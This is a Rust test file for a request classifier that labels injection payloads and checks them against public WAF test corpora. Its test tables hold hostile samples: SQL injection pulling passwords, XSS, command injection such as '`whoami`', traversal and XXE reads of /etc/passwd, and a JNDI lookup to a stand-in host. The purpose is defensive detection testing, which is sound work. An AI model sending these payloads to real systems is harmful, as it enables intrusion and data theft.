//! Attacks of public lists, and what is none.

use std::collections::BTreeMap;
use std::path::PathBuf;

use super::*;

fn of(value: &str) -> Option<Payload> {
    of_target(&format!("/search?a=1&q={}", encoded(value)))
}

/// Percent-encoded, as clients do.
fn encoded(value: &str) -> String {
    let safe = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~/".contains(&byte);
    let encode = |byte: u8| match safe(byte) {
        true => char::from(byte).to_string(),
        false => format!("%{byte:02X}"),
    };
    value.bytes().map(encode).collect()
}

#[test]
fn each_kind_is_told() {
    for (value, kind) in [
        ("1' UNION/**/SELECT password FROM users--", Payload::Sql),
        ("x' or 'a'='a", Payload::Sql),
        ("%2527%20or%201=1%20--", Payload::Sql),
        ("<ScRiPt>alert(1)</script>", Payload::Script),
        ("\" onmouseover=go(1) x=\"", Payload::Script),
        ("x;/bin/ls -l", Payload::Command),
        ("a|id", Payload::Command),
        ("`whoami`", Payload::Command),
        ("..%252f..%252fetc%252fpasswd", Payload::Path),
        ("..\\..\\boot.ini", Payload::Path),
        ("{{7*7}}", Payload::Template),
        ("${T(java.lang.Runtime).getRuntime()}", Payload::Template),
        ("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", Payload::XmlEntity),
        ("admin*)(uid=*", Payload::Ldap),
        ("${jndi:ldap://203.0.113.9/a}", Payload::Lookup),
        ("${${lower:j}ndi:rmi://x}", Payload::Lookup),
    ] {
        assert_eq!(of(value), Some(kind), "{value}");
    }
    assert_eq!(of_target("/users?name[$ne]=x"), Some(Payload::Nosql));
    assert_eq!(of_target("/static/../../etc/passwd"), Some(Payload::Path));
    assert_eq!(of_target("/static/%2e%2e/%2e%2e/secret"), Some(Payload::Path));
    let body = |text: &str| of_body(text.as_bytes());
    assert_eq!(body(r#"{"user":{"$ne":null}}"#), Some(Payload::Nosql));
    assert_eq!(body(r#"{"q":"\u003cscript\u003ealert(1)"}"#), Some(Payload::Script));
    assert_eq!(body(r#"{"query":"{__schema {types {name}}}"}"#), Some(Payload::Introspection));
    assert_eq!(body("a=1&b=%3Cscript%3E"), Some(Payload::Script));
    assert_eq!(body("q=1'+union+select+1"), Some(Payload::Sql));
}

#[test]
fn what_apis_are_used_for_is_no_attack() {
    for target in [
        "/",
        "*",
        "/api/v3/order?symbol=BTCUSDT&side=BUY&type=LIMIT&timeInForce=GTC&quantity=0.01&price=9000.5",
        "/api/v5/account/bills?begin=2026-11-24T09%3A08%3A57.715Z&ccy=USDT,BTC",
        "/0/private/AddOrder?txid=OQCLML-BW3P3-BUCMWZ;OB5VMB-B4U2U-DK2WRW",
        "/v1/search?q=select+a+wallet+from+the+list",
        "/v1/search?q=Dow+Jones+and+Nasdaq",
        "/orders?symbols=%5B%22BTCUSDT%22,%22ETHUSDT%22%5D",
        "/orders?signature=a%2Bb%2F%2Fc%3D%3D",
        "/batch?orders=%5B%7B%22symbol%22:%22A%22,%22price%22:%221%22%7D%5D",
        "/files/a..b/c.tar.gz?x=1...5",
        "/odata?$filter=price%20gt%2020&$select=name",
    ] {
        assert_eq!(of_target(target), None, "{target}");
    }
    for body in [
        r#"{"symbol":"BTC-USDT","side":"buy","size":"0.5","note":"take profit, then wait"}"#,
        r#"{"jsonrpc":"2.0","id":1,"method":"private/buy","params":{"amount":40}}"#,
        r#"[{"a":{"b":[1,2,{"c":"d e f"}]}}]"#,
        r#"{"query":"mutation Place($a:Int!){ place(amount:$a) { id } }"}"#,
        r#"{"name":"O'Brien & Sons; trading as \"Sons\"","label":"50% off (today)"}"#,
        "nonce=1700000000000&pair=XBTUSD&type=buy&ordertype=limit&volume=1.25",
        "<?xml version=\"1.0\"?><order><form>a</form><input>b</input></order>",
        "",
    ] {
        assert_eq!(of_body(body.as_bytes()), None, "{body}");
    }
}

proptest::proptest! {
    #[test]
    fn any_text_is_read(text in "[ -~\\x00]{0,60}|[%0-9a-f'*/\\\\u.{}|;&=+ <>$]{0,80}") {
        let _ = of_target(&text);
        let _ = of_body(text.as_bytes());
    }
}

fn corpora() -> Option<PathBuf> {
    let named = std::env::var_os("KEYWATCH_CORPORA").map(PathBuf::from);
    let beside = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpora");
    Some(named.unwrap_or(beside)).filter(|path| path.is_dir())
}

/// HttpParamsDataset: `"payload","length","attack_type","label"`, quotes doubled.
fn http_params(text: &str) -> Vec<(String, String)> {
    let mut rows = vec![vec![String::new()]];
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        let row = rows.last_mut().unwrap();
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                row.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(String::new()),
            '\n' if !quoted => rows.push(vec![String::new()]),
            c => row.last_mut().unwrap().push(c),
        }
    }
    let rows = rows.into_iter().skip(1).filter(|row| row.len() == 4);
    rows.map(|mut row| (row.swap_remove(0), row.swap_remove(2))).collect()
}

/// `docs/accuracy.md`, Payloads. Passes when the data is not there.
#[test]
fn public_payloads_are_told_from_ordinary_values() {
    let Some(corpora) = corpora() else { return };
    let Ok(bytes) = std::fs::read(corpora.join("http-params/payload_train.csv")) else { return };
    let mut counts: BTreeMap<(String, Option<Payload>), u32> = BTreeMap::new();
    for (value, class) in http_params(&String::from_utf8_lossy(&bytes)) {
        *counts.entry((class, of(&value))).or_default() += 1;
    }
    let count = |class: Option<&str>, told: Option<Payload>| -> u32 {
        let fits = |key: &&(String, Option<Payload>)| {
            class.is_none_or(|class| key.0 == class) && (told.is_none() || key.1 == told)
        };
        counts.iter().filter(|(key, _)| fits(key)).map(|(_, n)| n).sum()
    };
    for (class, kind, recall_min) in [
        ("sqli", Payload::Sql, 0.99),
        ("xss", Payload::Script, 0.97),
        ("cmdi", Payload::Command, 0.65),
        ("path-traversal", Payload::Path, 0.78),
    ] {
        let (all, hit) = (count(Some(class), None), count(Some(class), Some(kind)));
        let recall = f64::from(hit) / f64::from(all);
        let precision = f64::from(hit) / f64::from(count(None, Some(kind)));
        eprintln!("{class:15} {all:5} recall {recall:.4} precision {precision:.4}");
        assert!(recall >= recall_min, "{class}: {recall}");
        assert!(precision >= 0.97, "{class}: {precision}");
    }
    let false_alarms: u32 =
        counts.iter().filter(|(key, _)| key.0 == "norm" && key.1.is_some()).map(|(_, n)| n).sum();
    eprintln!("ordinary values {} false alarms {false_alarms}", count(Some("norm"), None));
    assert!(false_alarms <= 2, "{false_alarms}");
}

/// Texts of a gotestwaf list, one a line: `  - 'text'`.
fn gotestwaf(path: &std::path::Path) -> Vec<String> {
    let Ok(text) = std::fs::read_to_string(path) else { return Vec::new() };
    let items = text.lines().take_while(|line| !line.starts_with("encoder"));
    let items = items.filter_map(|line| line.strip_prefix("  - "));
    let bare = |item: &str| {
        let quoted = |quote| item.strip_prefix(quote).and_then(|it| it.strip_suffix(quote));
        match (quoted('\''), quoted('"')) {
            (Some(text), _) => text.replace("''", "'"),
            (None, Some(text)) => text.to_owned(),
            (None, None) => item.to_owned(),
        }
    };
    items.map(bare).collect()
}

/// The same of gotestwaf: hits on its attacks, silence on its probes for false alarms.
#[test]
fn public_probes_are_hit_and_plain_texts_are_not() {
    let Some(corpora) = corpora() else { return };
    let folder = corpora.join("gotestwaf");
    let plain = gotestwaf(&folder.join("false-pos/texts.yml"));
    let ways = |text: &str| {
        let json = serde_json::json!({ "text": text }).to_string();
        let form = format!("a=1&text={}", encoded(text));
        [of(text), of_body(json.as_bytes()), of_body(form.as_bytes())]
    };
    for text in &plain {
        assert_eq!(ways(text), [None; 3], "{text}");
    }
    let (mut all, mut hit) = (0, 0);
    for list in ["graphql", "graphql-post", "grpc", "non-crud", "rest", "soap"] {
        for text in gotestwaf(&folder.join(format!("owasp-api/{list}.yml"))) {
            all += 1;
            hit += u32::from(ways(&text).iter().all(Option::is_some));
        }
    }
    eprintln!("gotestwaf: {hit} of {all} attacks in every place, 0 of {} plain texts", plain.len());
    assert_eq!(hit, all);
}
